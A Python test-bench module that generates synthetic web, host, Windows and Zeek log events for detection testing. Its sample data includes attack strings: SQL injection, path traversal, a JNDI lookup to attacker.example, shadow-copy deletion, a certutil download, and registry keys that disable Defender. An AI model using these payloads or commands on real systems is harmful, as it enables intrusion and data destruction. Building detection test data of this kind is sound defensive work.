"""Events that nobody recorded, in the shapes that real ones have, each different.

Web access and lines of hosts are always made up here, so that no URL comes twice. Windows events
and Zeek's records only where the public recordings are not at hand. Addresses are documentation
ones (RFC 5737); a seed makes the same events every time.
"""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from random import Random
from typing import Any

from tests.bench import lines
from tests.bench.detect import logsources
from tests.bench.report import Kind

Event = dict[str, Any]

RULES = Path(__file__).with_name("invented_rules.yml")
ZEEK_SHARE = 0.3  # of the lane with raw lines
ATTACK_SHARE = 0.01  # of web requests

# What a new command line ends with, before what makes it new.
ARGUMENTS = (
    "--session=",
    "/id:",
    "C:\\Users\\canbo\\Documents\\bao-cao-",
    "-o C:\\Windows\\Temp\\",
    "http://dvc.example/tep/",
    "\\\\files.example\\chung\\",
)

_BEGIN = datetime(2026, 11, 2, 8, tzinfo=UTC)
_PLACES = (
    "C:\\Windows\\System32\\",
    "C:\\Program Files\\Google\\Chrome\\Application\\",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\",
    "C:\\Program Files\\Unikey\\",
    "C:\\Users\\canbo\\AppData\\Local\\Temp\\",
)
_PROGRAMS = (
    "svchost.exe",
    "cmd.exe",
    "powershell.exe",
    "conhost.exe",
    "chrome.exe",
    "winword.exe",
    "rundll32.exe",
    "vssadmin.exe",
    "certutil.exe",
    "setup.exe",
)
_COMMANDS = (
    "-k netsvcs -p -s Schedule",
    "/c dir C:\\Users\\canbo\\Documents",
    "-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\sao-luu.ps1",
    "-EncodedCommand SQBFAFgA",
    "delete shadows /all /quiet",
    "-urlcache -f http://198.51.100.7/tep.exe",
    "--type=renderer --lang=vi",
)
_KEYS = (
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\",
    "HKLM\\SYSTEM\\CurrentControlSet\\Services\\",
    "HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Word\\",
    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware\\",
)
_STEMS = ("/thu-tuc/chi-tiet", "/tim-kiem", "/api/ho-so", "/tai-lieu/van-ban", "/static/js/trang")
_ENDS = ("", ".html", ".pdf", ".js", ".php")
_WEB_ATTACKS = (
    "q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--&",
    "file=../../../../etc/passwd&",
    "x=${jndi:ldap://attacker.example/a}&",
    "cmd=whoami%20/all&",
)
_HOST_LINES = (
    ("auditd", 'type=EXECVE msg=audit(1793000000.{n}:7): argc=2 a0="/usr/bin/ls" a1="/srv/{n:x}"'),
    ("auditd", 'type=SYSCALL msg=audit(1793000000.{n}:8): syscall=59 comm="cp" exe="/usr/bin/cp"'),
    ("cron", "CRON[{n}]: (root) CMD (/usr/local/bin/sao-luu --ngay {n})"),
    ("syslog", "systemd[1]: session-{n}.scope: Deactivated successfully."),
    ("sudo", "sudo: canbo : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/apt list {n}"),
    ("syslog", "kernel: [{n}.250101] audit: rate limit, {n} messages were left out"),
)


def web(amount: int, seed: int) -> Iterator[Event]:
    """Requests with Sigma's names for them, half at web servers, half at a proxy."""
    chance = Random(seed)
    for number in range(amount):
        stem = f"{chance.choice(_STEMS)}/{chance.getrandbits(40):010x}{chance.choice(_ENDS)}"
        query = f"ma={number}&khoa={chance.getrandbits(64):016x}"
        if chance.random() < ATTACK_SHARE:
            query = chance.choice(_WEB_ATTACKS) + query
        agent = chance.choice(lines.AGENTS)
        category = chance.choice(("webserver", "proxy"))
        at = _BEGIN + timedelta(milliseconds=20 * number)
        yield {
            "date": at.date().isoformat(),
            "time": at.time().isoformat(),
            "c-ip": f"203.0.113.{chance.randint(1, 254)}",
            "cs-method": chance.choice(("GET", "GET", "GET", "POST", "HEAD")),
            "cs-host": "dvc.example",
            "c-uri": f"https://dvc.example{stem}?{query}",
            "cs-uri": f"{stem}?{query}",
            "cs-uri-stem": stem,
            "c-uri-path": stem,
            "cs-uri-query": query,
            "c-uri-query": query,
            "c-uri-extension": stem.rpartition(".")[2] if "." in stem else "",
            "cs-user-agent": agent,
            "c-useragent": agent,
            "cs-referer": "https://dvc.example/",
            "cs-version": "HTTP/1.1",
            "sc-status": int(chance.choice(lines.STATUSES)),
            "sc-bytes": chance.randint(100, 80_000),
            **logsources.words("none", category),
        }


def raw(amount: int, seed: int) -> Iterator[Event]:
    """Lines of sshd, web servers and other programs of hosts, unread."""
    chance = Random(seed)
    spoken = lines.lines(Kind.MIXED, amount, _BEGIN)
    for number, line in enumerate(spoken):
        if chance.random() < 0.4:
            service, text = chance.choice(_HOST_LINES)
            message = text.format(n=number + 100)
        else:
            service = "sshd" if b" sshd " in line else "nginx"
            message = line.decode().split(" - -  ", 1)[1]
        product = logsources.NONE if service == "nginx" else "linux"
        yield {
            "host": chance.choice(lines.HOSTS),
            "message": message,
            **logsources.words(product, service=service),
        }


def windows(amount: int, seed: int) -> Iterator[Event]:
    """Sysmon's, PowerShell's and the audit's events as NXLog sends them."""
    chance = Random(seed)
    for number in range(amount):
        at = _BEGIN + timedelta(milliseconds=50 * number)
        channel, event_id, fields = chance.choice(_WINDOWS)(chance, number)
        text = "\r\n".join(f"{name}: {value}" for name, value in fields.items())
        yield {
            "@timestamp": at.isoformat(),
            "EventTime": at.strftime("%Y-%m-%d %H:%M:%S"),
            "Hostname": f"may-{chance.randint(1, 200):03}.dvc.example",
            "Channel": channel,
            "EventID": event_id,
            "RecordNumber": number,
            "ProcessId": str(chance.randint(100, 30_000)),
            "ThreadID": chance.randint(100, 30_000),
            "Severity": "INFO",
            **fields,
            "Message": text,
        }


def zeek(amount: int, seed: int) -> Iterator[Event]:
    """Records of connections, names and requests."""
    chance = Random(seed)
    for number in range(amount):
        ends = {"uid": f"C{chance.getrandbits(64):016x}", "id.orig_h": "192.0.2.7"}
        name = f"{chance.getrandbits(32):x}.dvc.example"
        yield chance.choice(
            (
                {"_path": "conn", **ends, "proto": "tcp", "orig_bytes": number},
                {"_path": "dns", **ends, "query": name, "qtype_name": "A"},
                {"_path": "http", **ends, "uri": f"/{number}", "user_agent": "curl/8.9"},
            )
        )


_Made = tuple[str, int, dict[str, Any]]
_SYSMON = "Microsoft-Windows-Sysmon/Operational"


def _program(chance: Random) -> str:
    return chance.choice(_PLACES) + chance.choice(_PROGRAMS)


def _start(chance: Random, number: int) -> _Made:
    image = _program(chance)
    line = f'"{image}" {chance.choice(_COMMANDS)} {chance.getrandbits(20):x}'
    fields = {
        "Image": image,
        "OriginalFileName": image.rpartition("\\")[2],
        "CommandLine": line,
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": f"DVC\\canbo{number % 40}",
        "IntegrityLevel": "Medium",
        "Hashes": f"MD5={chance.getrandbits(128):032X}",
        "ParentImage": _program(chance),
        "ParentCommandLine": f"{chance.choice(_PROGRAMS)} {chance.choice(_COMMANDS)}",
    }
    return _SYSMON, 1, fields


def _value_set(chance: Random, number: int) -> _Made:
    key = f"{chance.choice(_KEYS)}{chance.getrandbits(24):x}"
    details = chance.choice(("DWORD (0x00000001)", "Binary Data", f"wscript C:\\tep\\{number}.vbs"))
    return _SYSMON, 13, {"Image": _program(chance), "TargetObject": key, "Details": details}


def _file(chance: Random, number: int) -> _Made:
    name = f"{chance.choice(_PLACES)}{number:x}{chance.choice(('.tmp', '.ps1', '.docx'))}"
    return _SYSMON, 11, {"Image": _program(chance), "TargetFilename": name}


def _library(chance: Random, number: int) -> _Made:
    library = chance.choice(("dbghelp.dll", "kernel32.dll", "ntdll.dll", f"tep{number}.dll"))
    loaded = {"Image": _program(chance), "ImageLoaded": f"C:\\Windows\\System32\\{library}"}
    return _SYSMON, 7, {**loaded, "Signed": "true", "Signature": "Microsoft Windows"}


def _script(chance: Random, number: int) -> _Made:
    word = chance.choice(("Get-ChildItem", "Copy-Item", "ReadProcessMemory", "Write-Output"))
    text = f"$tep = '{number}'; {word} C:\\Users\\canbo\\{chance.getrandbits(32):x}"
    return "Microsoft-Windows-PowerShell/Operational", 4104, {"ScriptBlockText": text}


def _logon(chance: Random, number: int) -> _Made:
    fields = {
        "TargetUserName": f"canbo{number % 40}",
        "LogonType": chance.choice((2, 3, 5)),
        "IpAddress": f"192.0.2.{chance.randint(1, 254)}",
        "LogonProcessName": "User32",
    }
    return "Security", chance.choice((4624, 4625, 4672)), fields


_WINDOWS = (_start, _start, _value_set, _value_set, _file, _library, _script, _logon)
